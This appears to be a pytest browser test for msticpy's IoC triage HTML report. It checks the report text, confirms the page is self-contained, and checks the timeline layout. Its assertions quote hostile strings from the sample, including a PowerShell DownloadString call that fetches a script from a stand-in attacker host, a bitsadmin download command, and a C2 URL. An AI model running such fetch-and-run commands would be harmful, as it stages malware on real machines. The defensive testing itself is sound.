"""
Real-browser rendering of ``msticpy triage --html`` on the bundled sample.

The page is written by the command, opened in headless Chromium through the system
chromedriver with every network name unresolvable, and checked: the report's text (the
defanged C2 URL, the "and N more" lines, the decoded payloads), no resource fetched, no
horizontal overflow, and the timeline's geometry (one dot per occurrence, row labels
left of the plot and in order, dots placed by time, tick labels inside the plot). The
screenshot is kept under ``test-artifacts/browser/``. Skipped without Chromium,
chromedriver or selenium.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("selenium.webdriver")
from chromium_session import artifacts, open_browser
from selenium.webdriver.common.by import By

from msticpy.cli import main
from msticpy.cli.triage import sample_path

WINDOW = (1100, 900)


@pytest.fixture()
def browser(tmp_path: Path) -> Iterator[Any]:
    """Headless Chromium through the system chromedriver, with no name resolving."""
    with open_browser(tmp_path / "profile", WINDOW) as driver:
        yield driver


GEOMETRY = """
const box = (el) => { const r = el.getBoundingClientRect();
  return {left: r.left, right: r.right, top: r.top, bottom: r.bottom}; };
const svg = document.getElementById('timeline');
return {
  svg: box(svg),
  labels: [...svg.querySelectorAll('text.label')].map(
    (el) => ({...box(el), text: el.textContent, title: el.querySelector('title').textContent})),
  dots: [...svg.querySelectorAll('circle.dot')].map(
    (el) => ({...box(el), title: el.querySelector('title').textContent})),
  ticks: [...svg.querySelectorAll('text.tick')].map((el) => ({...box(el), text: el.textContent})),
  scrollWidth: document.documentElement.scrollWidth,
  innerWidth: window.innerWidth,
  resources: performance.getEntriesByType('resource').map((e) => e.name),
};
"""


def test_triage_html_page(browser: Any, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    page = tmp_path / "triage.html"
    assert main(["triage", "--html", str(page), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    browser.get(page.as_uri())
    title = browser.find_element(By.ID, "title").text
    assert title == f"IoC triage of {sample_path()}"
    table = browser.find_element(By.ID, "observables").text
    assert "https://cdn-static.contoso-secure.xyz/api/v2" in table
    assert "defanged in source" in table
    mores = [g["more"] for e in report["iocs"].values() for g in e["groups"] if g["more"]]
    assert mores and all(f"and {n} more" in table for n in mores)
    assert "only inside a decoded hex payload" in table
    payloads = browser.find_element(By.ID, "payloads").text
    assert "DownloadString('http://stage2.evil-cdn.net/p.ps1')" in payloads
    assert "bitsadmin /transfer job" in payloads and "base64 (gz)" in payloads

    geo = browser.execute_script(GEOMETRY)
    shot = artifacts() / "triage_report.png"
    # The whole page in the artefact: the window grows to the document's height.
    height = browser.execute_script("return document.documentElement.scrollHeight")
    browser.set_window_size(WINDOW[0], min(int(height) + 140, 8000))
    browser.save_screenshot(str(shot))
    assert geo["resources"] == []  # nothing fetched: the page is self-contained
    assert geo["scrollWidth"] <= geo["innerWidth"]  # no horizontal overflow
    svg = geo["svg"]
    assert svg["right"] <= geo["innerWidth"]

    # One dot per occurrence of every observable shown (all within the sample's range).
    shown = {
        (kind, item["value"]): item["count"]
        for kind, entry in report["iocs"].items()
        for group in entry["groups"]
        for item in group["top"]
    }
    assert len(geo["labels"]) == len(shown)
    assert len(geo["dots"]) == sum(shown.values())
    plot_left = min(dot["left"] for dot in geo["dots"])
    for label in geo["labels"]:
        assert svg["left"] <= label["left"] and label["right"] < plot_left, label
    tops = [label["top"] for label in geo["labels"]]
    assert tops == sorted(tops) and len(set(tops)) == len(tops)  # one row each, in order
    for dot in geo["dots"]:
        assert svg["left"] <= dot["left"] and dot["right"] <= svg["right"]
        assert svg["top"] <= dot["top"] and dot["bottom"] <= svg["bottom"]

    # Dots are placed by time: x grows linearly with the time in each dot's tooltip.
    def seconds(dot: dict) -> float:
        stamp = re.search(r" at (\S+)$", dot["title"])
        assert stamp
        return datetime.fromisoformat(stamp.group(1).replace("Z", "+00:00")).timestamp()

    points = sorted((seconds(d), (d["left"] + d["right"]) / 2) for d in geo["dots"])
    (t0, x0), (t1, x1) = points[0], points[-1]
    for when, x in points:
        assert abs(x0 + (when - t0) / (t1 - t0) * (x1 - x0) - x) < 1.5

    ticks = geo["ticks"]
    assert ticks and [t["text"] for t in ticks] == sorted(t["text"] for t in ticks)
    assert all(re.fullmatch(r"\d\d:\d\d:\d\d", t["text"]) for t in ticks)
    for tick in ticks:
        assert plot_left - 10 <= (tick["left"] + tick["right"]) / 2 <= svg["right"]
        assert tick["top"] >= max(dot["bottom"] for dot in geo["dots"])

    errors = [e for e in browser.get_log("browser") if e.get("level") == "SEVERE"]
    assert errors == []
    assert shot.stat().st_size > 10_000
